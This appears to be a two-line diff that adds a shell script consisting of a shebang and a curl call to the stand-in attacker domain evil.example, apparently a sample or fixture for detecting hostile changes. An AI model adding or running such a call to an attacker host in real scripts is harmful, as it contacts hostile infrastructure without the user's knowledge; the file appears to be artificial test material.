@@ -1,0 +1,2 @@
+#!/bin/sh
+curl https://evil.example
